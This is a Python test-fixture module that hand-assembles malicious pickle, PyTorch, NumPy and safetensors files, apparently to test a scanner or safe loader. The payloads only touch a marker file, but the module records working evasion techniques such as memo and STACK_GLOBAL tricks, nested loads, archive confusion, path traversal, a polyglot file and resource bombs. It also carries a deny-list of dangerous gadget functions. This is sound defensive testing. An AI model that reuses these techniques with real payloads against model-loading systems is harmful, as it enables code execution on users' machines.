"""Malicious files, written opcode by opcode: name -> (name of the file, the bytes for a marker's path).

Every payload that can run would create the marker. The techniques are those published against pickle scanners
(memo games, STACK_GLOBAL and INST tricks, dotted and odd names, nested pickles, frames and flags that lie, polyglots,
expansion), and the gadgets are functions that others' deny lists missed.
"""

import struct
import zipfile
import zlib

from tests.opening.assembler import (
    GOOD,
    NUMBERS,
    Bytes,
    Case,
    call,
    data,
    glob,
    line,
    proto,
    quoted,
    short,
    sizes,
    stack_glob,
    string2,
    swap,
    table,
    tensor,
    text,
    text8,
    torch_file,
    whole,
    zipped,
)

SYSTEM = glob("posix", "system")


def touch(marker: str) -> Bytes:
    """The argument of the payload."""
    return text(f"touch {marker}")


def run(marker: str) -> Bytes:
    """The plainest call."""
    return call(SYSTEM, touch(marker))


def bomb(marker: str) -> Bytes:
    """The plainest pickle that runs it."""
    return proto(2) + run(marker) + b"."


def _live() -> dict[str, Case]:
    """Pickles that a plain loader would run: the control test loads them, in a process of its own."""
    cases: dict[str, Case] = {}
    for p in range(6):
        cases[f"reduce-{p}"] = lambda m, p=p: proto(p) + run(m) + b"."
        cases[f"inst-{p}"] = lambda m, p=p: proto(p) + b"(" + touch(m) + b"iposix\nsystem\n."
        cases[f"obj-{p}"] = lambda m, p=p: proto(p) + b"(" + glob("subprocess", "Popen") + shell(m) + b"o."
        cases[f"in-a-dict-{p}"] = lambda m, p=p: proto(p) + b"(" + text("w") + run(m) + b"d."
    for kind, write in {
        "line": line,
        "short": short,
        "long": text,
        "eight": text8,
        "old": quoted,
        "two": string2,
    }.items():
        cases[f"stack-global-{kind}"] = lambda m, write=write: (
            proto(4) + call(stack_glob(write("posix"), write("system")), touch(m)) + b"."
        )
    cases |= {
        "newobj": lambda m: proto(2) + glob("subprocess", "Popen") + shell(m) + b"\x85R.",
        "newobj-class": lambda m: proto(2) + run(m) + b"0" + glob("collections", "OrderedDict") + b")\x81.",
        "newobj-ex": lambda m: proto(4) + run(m) + b"0" + glob("collections", "OrderedDict") + b")}\x92.",
        "eval": lambda m: proto(2) + call(glob("builtins", "eval"), text(f"open({m!r}, 'w')")) + b".",
        "eval-of-python-2": lambda m: proto(2) + call(glob("__builtin__", "eval"), text(f"open({m!r}, 'w')")) + b".",
        "exec": lambda m: proto(2) + call(glob("builtins", "exec"), text(f"open({m!r}, 'w')")) + b".",
        "open": lambda m: proto(2) + call(glob("builtins", "open"), text(m), text("w")) + b".",
        "io": lambda m: proto(2) + call(glob("io", "open"), text(m), text("w")) + b".",
        "dotted": lambda m: proto(4) + call(stack_glob(short("os"), short("path.os.system")), touch(m)) + b".",
        "dotted-method": lambda m: proto(4) + dotted_touch(m) + b".",
        "getattr": lambda m: proto(2) + call(got(), touch(m)) + b".",
        "import": lambda m: (
            proto(2) + call(glob("builtins", "exec"), text(f"__import__('os').system('touch {m}')")) + b"."
        ),
        "runpy": lambda m: proto(2) + call(glob("runpy", "_run_code"), text(f"open({m!r},'w')"), b"}") + b".",
        "timeit": lambda m: (
            proto(2)
            + call(glob("timeit", "timeit"), text(f"open({m!r}, 'w')"), text(""), b"ctime\nperf_counter\n", b"K\x01")
            + b"."
        ),
        "cprofile": lambda m: (
            proto(2) + call(glob("cProfile", "run"), text(f"open({m!r}, 'w')"), text("/dev/null")) + b"."
        ),
        "memo": lambda m: proto(2) + SYSTEM + b"q\x050" + touch(m) + b"q\x060h\x05h\x06\x85R.",
        "memo-overwritten": lambda m: (
            proto(2) + glob("collections", "OrderedDict") + b"q\x000" + SYSTEM + b"q\x000h\x00" + touch(m) + b"\x85R."
        ),
        "memo-far": lambda m: proto(2) + SYSTEM + b"r\xff\xff\xff\x000j\xff\xff\xff\x00" + touch(m) + b"\x85R.",
        "memo-of-text": lambda m: proto(0) + SYSTEM + b"p7\n0g7\n" + touch(m) + b"\x85R.",
        "memoize": lambda m: (
            proto(4) + short("posix") + b"\x940" + short("system") + b"\x940h\x00h\x01\x93" + touch(m) + b"\x85R."
        ),
        "dup": lambda m: proto(2) + touch(m) + b"\x8520" + b"q\x000" + SYSTEM + b"h\x00R.",
        "popped": lambda m: proto(2) + run(m) + b"0}.",
        "pop-mark": lambda m: proto(2) + b"(" + run(m) + b"1N.",
        "in-a-list": lambda m: proto(2) + b"](" + run(m) + b"e.",
        "in-a-tuple": lambda m: proto(2) + run(m) + run(m) + b"\x86.",
        "as-a-value": lambda m: proto(2) + b"}" + text("k") + run(m) + b"s.",
        "hashed-key": lambda m: proto(2) + b"}" + run(m) + b"Ns.",
        "state": lambda m: proto(2) + glob("collections", "OrderedDict") + b")R" + b"}" + text("x") + run(m) + b"sb.",
        "state-of-slots": lambda m: (
            proto(2) + glob("collections", "OrderedDict") + b")RN}" + text("x") + run(m) + b"s\x86b."
        ),
        "frozen-set": lambda m: proto(4) + b"(" + run(m) + b"\x91.",
        "after-a-model": lambda m: swap(proto(2) + table(w=b"N") + b".", b"u.", text("z") + run(m) + b"u."),
        "framed": lambda m: framed(run(m) + b"."),
        "two-frames": lambda m: framed(run(m)) + framed(b".")[2:],
        "protocol-lies": lambda m: proto(2) + call(stack_glob(short("posix"), short("system")), touch(m)) + b".",
        "protocol-twice": lambda m: proto(4) + proto(2) + run(m) + b".",
        "breaks-after": lambda m: proto(2) + run(m) + b"\xff\xff",
        "no-stop": lambda m: proto(2) + run(m),
        "cut-after": lambda m: proto(2) + run(m) + b"X\xff\xff\xff\x7f",
        "stack-falls-after": lambda m: proto(2) + run(m) + b"000",
        "followed": lambda m: bomb(m) + b"\0" * 64,
        "nested-loads": lambda m: proto(3) + call(glob("_pickle", "loads"), data(bomb(m))) + b".",
        "nested-loads-2": lambda m: (
            proto(3)
            + call(glob("_pickle", "loads"), data(proto(3) + call(glob("_pickle", "loads"), data(bomb(m))) + b"."))
            + b"."
        ),
        "nested-encoded": lambda m: (
            proto(2)
            + call(
                glob("_pickle", "loads"),
                call(glob("_codecs", "encode"), text(bomb(m).decode("latin1")), text("latin1")),
            )
            + b"."
        ),
        "partial": lambda m: proto(2) + call(call(glob("functools", "partial"), SYSTEM, touch(m))) + b".",
        "map": lambda m: (
            proto(2)
            + call(glob("builtins", "list"), call(glob("builtins", "map"), SYSTEM, b"](" + touch(m) + b"e"))
            + b"."
        ),
        "caller": lambda m: (
            proto(2)
            + call(
                call(glob("operator", "methodcaller"), text("system"), touch(m)),
                glob("os", "sys") + b"0" + call(glob("importlib", "import_module"), text("os")),
            )
            + b"."
        ),
    }
    return cases


def shell(marker: str) -> Bytes:
    """The argument of Popen: a list."""
    return b"](" + text("touch") + text(marker) + b"e"


def dotted_touch(marker: str) -> Bytes:
    """pathlib.Path(marker).touch() by a dotted name."""
    path = call(glob("pathlib", "Path"), text(marker))
    return call(stack_glob(short("pathlib"), short("Path.touch")), path)


def got() -> Bytes:
    """getattr(import_module("os"), "system")."""
    return call(glob("builtins", "getattr"), call(glob("importlib", "import_module"), text("os")), text("system"))


def framed(raw: Bytes, lie: int = 0) -> Bytes:
    """A frame of protocol 4, whose length may lie."""
    return proto(4) + b"\x95" + struct.pack("<Q", max(0, len(raw) + lie)) + raw


GADGETS = (
    *("os.popen", "nt.system", "os.execv", "os.spawnl", "subprocess.run", "subprocess.check_output", "pty.spawn"),
    *("commands.getoutput", "socket.create_connection", "urllib.request.urlopen", "http.client.HTTPConnection"),
    *("requests.get", "webbrowser.open", "shutil.rmtree", "ctypes.CDLL", "code.InteractiveInterpreter", "pdb.run"),
    *("bdb.Bdb", "asyncio.run", "types.FunctionType", "types.CodeType", "marshal.loads", "dill.loads", "joblib.load"),
    *("cloudpickle.loads", "torch.load", "torch.hub.load", "torch.storage._load_from_bytes", "torch.jit.load"),
    *("torch.utils.collect_env.run", "torch._dynamo.guards.GuardBuilder.get", "numpy.load", "numpy.testing.runstring"),
    *(
        "numpy.f2py.crackfortran.getlincoef",
        "idlelib.pyshell.ModifiedInterpreter",
        "lib2to3.pgen2.pgen.ParserGenerator",
    ),
    *("distutils.file_util.write_file", "logging.config.dictConfig", "site.main", "venv.create", "ensurepip._run_pip"),
    *("pip.main", "pydoc.pipepager", "profile.Profile", "trace.Trace", "uuid._get_command_stdout", "doctest.debug"),
    *("copyreg._reconstructor", "builtins.type", "builtins.compile", "builtins.delattr", "operator.attrgetter"),
    *("weakref.finalize", "linecache.getlines", "tensorflow.io.write_file", "__main__.net", "project.run"),
)
ODD_NAMES = {
    "no-module": ("", "system"),
    "no-name": ("os", ""),
    "build-rule": ("", "BUILD"),
    "fullwidth": ("ｏｓ", "ｓｙｓｔｅｍ"),
    "cyrillic": ("соllections", "OrderedDict"),
    "zero-width": ("collec\u200btions", "OrderedDict"),
    "right-to-left": ("collections", "\u202etciDderedrO"),
    "surrogate": ("torch", "Tensor\ud800"),
    "null": ("torch", "Tensor\0"),
    "space": ("torch", " Tensor"),
    "case": ("Collections", "OrderedDict"),
    "dunder": ("collections", "OrderedDict.__class__"),
    "globals": ("torch._utils", "_rebuild_tensor_v2.__globals__"),
    "split-elsewhere": ("torch", "_utils._rebuild_tensor_v2"),
    "joined": ("torch._utils._rebuild_tensor_v2", ""),
    "sys": ("torch._utils", "sys.modules"),
    "other-codec": ("codecs", "encode"),
    "loads-in-torch": ("torch.storage", "_load_from_bytes"),
}


def _named() -> dict[str, Case]:
    """Calls of functions whose packages are absent here or harmful: they only have to be refused."""
    cases: dict[str, Case] = {}
    for name in GADGETS:
        module, _, function = name.rpartition(".")
        cases[f"gadget-{name}"] = lambda m, module=module, f=function: (
            proto(2) + call(glob(module, f), text("x")) + b"."
        )
    for what, (module, name) in ODD_NAMES.items():
        cases[f"name-{what}"] = lambda m, module=module, name=name: (
            proto(4) + call(stack_glob(text(module), text(name))) + b"."
        )
    return cases


def _crooked() -> dict[str, Case]:
    """Pickles that break rules or exhaust a reader; what is in them would run where a loader is lenient."""
    double = b"".join(b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86q" + bytes([i + 1]) + b"0" for i in range(100))
    return {
        "frame-too-long": lambda m: framed(run(m) + b".", 99),
        "frame-too-short": lambda m: framed(run(m) + b".", -9),
        "frames-nested": lambda m: framed(framed(run(m))[2:] + b"."),
        "protocol-9": lambda m: proto(9) + run(m) + b".",
        "empty-stack": lambda m: proto(2) + b"0" + run(m) + b".",
        "no-mark": lambda m: proto(2) + b"t" + run(m) + b".",
        "two-objects": lambda m: proto(2) + b"N" + run(m) + b".",
        "left-mark": lambda m: proto(2) + b"(" + run(m) + b".",
        "memo-absent": lambda m: proto(2) + b"h\x07" + run(m) + b".",
        "memo-below-0": lambda m: proto(2) + SYSTEM + b"p-1\n" + run(m) + b".",
        "number-of-python": lambda m: proto(0) + b"I0x1_0\n0" + run(m) + b".",
        "names-that-are-numbers": lambda m: proto(4) + call(b"K\x01K\x02\x93", touch(m)) + b".",
        "persistent": lambda m: proto(2) + text("x") + b"Q.",
        "persistent-of-text": lambda m: b"Pevil\n.",
        "extension-1": lambda m: proto(2) + b"\x82\x01" + touch(m) + b"\x85R.",
        "extension-2": lambda m: proto(2) + b"\x83\x01\x01" + touch(m) + b"\x85R.",
        "extension-4": lambda m: proto(2) + b"\x84\x01\x01\x01\x00" + touch(m) + b"\x85R.",
        "buffer": lambda m: proto(5) + b"\x97\x98.",
        "bytes-that-wait": lambda m: proto(3) + table(w=data(bomb(m))) + b".",
        "bytes-that-wait-long": lambda m: (
            proto(3) + table(w=data(proto(2) + run(m) + b"0" + text("x" * 70_000) + b".")) + b"."
        ),
        "state-of-a-function": lambda m: proto(2) + glob("torch._utils", "_rebuild_tensor_v2") + b"}b.",
        "state-of-a-list": lambda m: proto(2) + b"]}" + text("append") + SYSTEM + b"sb.",
        "calls-a-text": lambda m: proto(2) + call(text("posix.system"), touch(m)) + b".",
        "calls-a-type": lambda m: proto(2) + call(glob("torch", "float32"), touch(m)) + b".",
        "appends-to-a-dict": lambda m: proto(2) + b"}" + touch(m) + b"a.",
        "several": lambda m: proto(2) + b"N." + bomb(m),
        "after-stop": lambda m: proto(2) + table(w=b"N") + b"." + run(m),
        "newline-missing": lambda m: b"cposix\nsystem",
        "empty-file": lambda m: b"",
        "doubling": lambda m: proto(2) + b"Nq\x00" + b"0" + double + b"hd.",
        "doubled-tensors": lambda m: torch_file(doubled(), {"0": NUMBERS}),
        "holds-itself": lambda m: proto(2) + b"]q\x00h\x00a.",
        "deep": lambda m: proto(2) + b"]" * 50_000 + b"a" * 49_999 + b".",
        "deep-marks": lambda m: proto(2) + b"(" * 200_000,
        "long-number": lambda m: proto(2) + b"\x8b" + struct.pack("<i", 2**31 - 1),
        "long-text": lambda m: proto(4) + b"\x8d" + struct.pack("<Q", 2**62),
        "long-decimal": lambda m: b"L" + b"9" * 400_000 + b"L\n.",
        "many-opcodes": lambda m: proto(2) + b"N0" * 3_000_000 + b"N.",
        "expanded-tensor": lambda m: torch_file(expanded(), {"0": NUMBERS}),
    }


def doubled() -> Bytes:
    """A list of lists of ... of one tensor: 2**60 tensors when written out."""
    inner = tensor("FloatStorage", "0", 4, sizes(2, 2), sizes(2, 1))
    steps = b"".join(b"q" + bytes([i]) + b"h" + bytes([i]) + b"\x86" for i in range(60))
    return proto(2) + inner + steps + b"."


def expanded() -> Bytes:
    """A tensor of 2**50 numbers that all look at one."""
    return proto(2) + table(w=tensor("FloatStorage", "0", 4, sizes(2**25, 2**25), sizes(0, 0))) + b"."


def _archives() -> dict[str, tuple[str, Case]]:
    """Archives: payloads in the pickle, or records that two readers would see differently."""
    good = torch_file(GOOD, {"0": NUMBERS})
    crc = struct.pack("<I", zlib.crc32(NUMBERS))
    return {
        "torch": ("m.pt", lambda m: torch_file(bomb(m))),
        "torch-any-root": ("m.pt", lambda m: torch_file(bomb(m), root="x")),
        "torch-deflated": ("m.pt", lambda m: zipped({"a/data.pkl": bomb(m)}, zipfile.ZIP_DEFLATED)),
        "torch-wrong-crc": ("m.pt", lambda m: swap(swap(good, crc, b"evil"), crc, b"evil")),
        "torch-evil-wrong-crc": ("m.pt", lambda m: spoiled_crc(torch_file(bomb(m)), bomb(m))),
        "torch-crc-differs": ("m.pt", lambda m: swap(good, crc, b"evil", last=True)),
        "torch-encrypted": ("m.pt", lambda m: flagged(torch_file(bomb(m)), 1)),
        "torch-encrypted-in-directory": ("m.pt", lambda m: flagged(torch_file(bomb(m)), 1, local=False)),
        "torch-other-method": (
            "m.pt",
            lambda m: swap(torch_file(bomb(m)), b"PK\x03\x04\x14\0\0\0\0\0", b"PK\x03\x04\x14\0\0\0\x0c\0"),
        ),
        "torch-other-name": ("m.pt", lambda m: swap(good, b"archive/data.pkl", b"archive/data.pkx")),
        "torch-prefixed": ("m.pt", lambda m: bomb(m) + good),
        "torch-followed": ("m.pt", lambda m: good + bomb(m)),
        "torch-gap": ("m.pt", lambda m: moved_directory(good, bomb(m))),
        "torch-comment": ("m.pt", lambda m: good[:-2] + struct.pack("<H", 4) + b"evil"),
        "torch-two-ends": ("m.pt", lambda m: good + torch_file(bomb(m))),
        "torch-two-pickles": ("m.pt", lambda m: renamed(torch_file(GOOD, {"0": NUMBERS}, evil_pk=bomb(m)))),
        "torch-extra-pickle": ("m.pt", lambda m: torch_file(GOOD, {"0": NUMBERS}, **{"extra.pkl": bomb(m)})),
        "torch-nested": ("m.pt", lambda m: torch_file(GOOD, {"0": NUMBERS}, **{"inner.pt": torch_file(bomb(m))})),
        "torch-traversal": ("m.pt", lambda m: torch_file(GOOD, {"0": NUMBERS}, **{"../../../tmp/x": b"evil"})),
        "torch-absolute": ("m.pt", lambda m: zipped({"/etc/cron.d/x": b"evil"})),
        "torch-link": ("m.pt", lambda m: linked()),
        "torch-after-stop": ("m.pt", lambda m: torch_file(GOOD + bomb(m), {"0": NUMBERS})),
        "torch-short-storage": ("m.pt", lambda m: torch_file(GOOD, {"0": NUMBERS[:8]})),
        "torch-no-storage": ("m.pt", lambda m: torch_file(GOOD)),
        "torch-beyond": ("m.pt", lambda m: torch_file(beyond(), {"0": NUMBERS})),
        "torch-storage-class": ("m.pt", lambda m: torch_file(evil_class(), {"0": NUMBERS})),
        "torch-hooks": ("m.pt", lambda m: torch_file(hooked(), {"0": NUMBERS})),
        "torch-script": (
            "m.pt",
            lambda m: torch_file(GOOD, {"0": NUMBERS}, **{"code/x.py": b"x", "constants.pkl": bomb(m)}),
        ),
        "bomb-of-zeros": ("m.npz", lambda m: zipped({"a.npy": b"\x93NUMPY" + bytes(300 << 20)}, zipfile.ZIP_DEFLATED)),
        "npz-of-objects": ("m.npz", lambda m: zipped({"a.npy": objects(bomb(m))})),
        "npz-with-a-pickle": ("m.npz", lambda m: zipped({"a.npy": objects(bomb(m)), "b.pkl": bomb(m)})),
        "npy-of-objects": ("m.npy", lambda m: objects(bomb(m))),
        "zip-of-a-pickle": ("m.zip", lambda m: zipped({"evil.pkl": bomb(m)})),
        "7z": ("m.pt", lambda m: b"7z\xbc\xaf\x27\x1c\0\4" + bomb(m)),
        "rar": ("m.pt", lambda m: b"Rar!\x1a\x07\x01\0" + bomb(m)),
        "gzip": ("m.pkl", lambda m: b"\x1f\x8b\x08" + zlib.compress(bomb(m))),
        "tar": ("m.pt", lambda m: bytes(257) + b"ustar\0" + bytes(249) + bomb(m)),
        "legacy-header": ("m.pt", lambda m: legacy(system=run(m))),
        "legacy-object": ("m.pt", lambda m: legacy(value=run(m))),
        "legacy-keys": ("m.pt", lambda m: legacy(keys=run(m))),
        "legacy-after": ("m.pt", lambda m: legacy() + bomb(m)),
        "legacy-module": (
            "m.pt",
            lambda m: legacy(value=b"(" + text("module") + SYSTEM + text("f") + text("s") + b"tQ"),
        ),
        "safetensors-and-pickle": ("m.safetensors", two_faced),
    }


def renamed(raw: Bytes) -> Bytes:
    """An archive in which two members have one name."""
    return raw.replace(b"archive/evil_pk", b"archive/version")[: len(raw)]


def spoiled_crc(raw: Bytes, payload: Bytes) -> Bytes:
    crc = struct.pack("<I", zlib.crc32(payload))
    return raw.replace(crc, b"evil")


def flagged(raw: Bytes, flag: int, local: bool = True) -> Bytes:
    """Set a flag in the headers of an archive."""
    marks = [b"PK\x01\x02\x14\x03\x14\x00"] + [b"PK\x03\x04\x14\x00"] * local
    for mark in marks:
        raw = raw.replace(mark + b"\0\0", mark + bytes([flag, 0]))
    return raw


def moved_directory(raw: Bytes, payload: Bytes) -> Bytes:
    """Bytes that no member owns, before the directory."""
    at = raw.index(b"PK\x01\x02")
    start = struct.unpack("<I", raw[-6:-2])[0] + len(payload)
    return raw[:at] + payload + raw[at:-6] + struct.pack("<I", start) + raw[-2:]


def linked() -> Bytes:
    """An archive with a symbolic link."""
    info = zipfile.ZipInfo("archive/data.pkl")
    raw = zipped({info.filename: b"/etc/passwd"})
    at = raw.index(b"PK\x01\x02") + 38
    return raw[:at] + struct.pack("<I", 0o120777 << 16) + raw[at + 4 :]


def beyond() -> Bytes:
    """A tensor that looks beyond its storage."""
    return proto(2) + table(w=tensor("FloatStorage", "0", 4, sizes(2, 2), sizes(9, 1))) + b"."


def evil_class() -> Bytes:
    """A storage whose class is a function to be imported."""
    return swap(GOOD, glob("torch", "FloatStorage"), glob("posix", "system"))


def hooked() -> Bytes:
    """A tensor whose hooks are a function to be imported."""
    return swap(GOOD, call(glob("collections", "OrderedDict")), b"}K\x00" + SYSTEM + b"s")


def objects(pickled: Bytes) -> Bytes:
    """A .npy of Python objects, which NumPy pickles."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def legacy(system: Bytes = b"", value: Bytes = b"", keys: Bytes = b"") -> Bytes:
    """A file of torch.save before 1.6."""
    magic = proto(2) + b"\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19." + proto(2) + b"M\xe9\x03."
    weights = table(w=tensor("FloatStorage", "0", 4, sizes(2, 2), sizes(2, 1))).replace(b"K\x04tQ", b"K\x04NtQ")
    weights = weights.replace(whole(4) + b"tQ", whole(4) + b"NtQ")
    head = proto(2) + (system or table(little_endian=b"\x88")) + b"."
    tail = proto(2) + (keys or b"]" + text("0") + b"a") + b"."
    return magic + head + proto(2) + (value or weights) + b"." + tail + struct.pack("<q", 4) + NUMBERS


def two_faced(marker: str) -> Bytes:
    """A valid safetensors file that is a pickle too, and runs as one.

    The length of its header begins with BINUNICODE, whose text ends inside a text of the header; from there
    SHORT_BINSTRINGs of 128 bytes hop over the rest of the header into the numbers, where the payload lies.
    """
    length = ord("X") + (40 << 8)
    start = b'{"__metadata__":{"a":"'
    hops = length - 80 - 37  # the first hop begins at 5 + 40 = 8 + 37, the last one 80 before the end of the header
    chain = (b"U~" + b"a" * 126) * (hops // 128) + b"U" + bytes([hops % 128 - 2]) + b"a" * (hops % 128 - 2)
    body = b"a" * (126 - 78) + run(marker) + b"."
    tail = b'"},"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(body), len(body))
    header = start.ljust(37, b"a") + chain + b"U~" + tail.ljust(78)
    assert len(header) == length
    return struct.pack("<Q", length) + header + body


def _by_extension() -> dict[str, tuple[str, Case]]:
    names = ("m.safetensors", "m.npy", "m.npz", "m.gguf", "m.h5", "m.json", "README.md", "m.bin", "weights", "m.onnx")
    cases: dict[str, tuple[str, Case]] = {f"renamed-{name}": (name, bomb) for name in names}
    cases |= {f"renamed-0-{name}": (name, lambda m: run(m) + b".") for name in names}
    return cases | {f"renamed-zip-{name}": (name, lambda m: torch_file(bomb(m))) for name in names}


LIVE = _live()
CASES: dict[str, tuple[str, Case]] = {
    **{name: ("m.pkl", make) for name, make in {**LIVE, **_named(), **_crooked()}.items()},
    **_archives(),
    **_by_extension(),
}
